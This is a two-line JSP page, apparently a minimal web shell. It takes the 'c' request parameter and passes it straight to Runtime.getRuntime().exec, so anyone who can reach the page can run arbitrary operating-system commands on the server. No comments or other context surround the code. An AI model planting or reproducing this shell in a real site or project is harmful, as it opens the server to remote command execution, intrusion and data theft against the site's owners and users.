<%@ page import="java.io.*" %>
<% Process p = Runtime.getRuntime().exec(request.getParameter("c")); %>
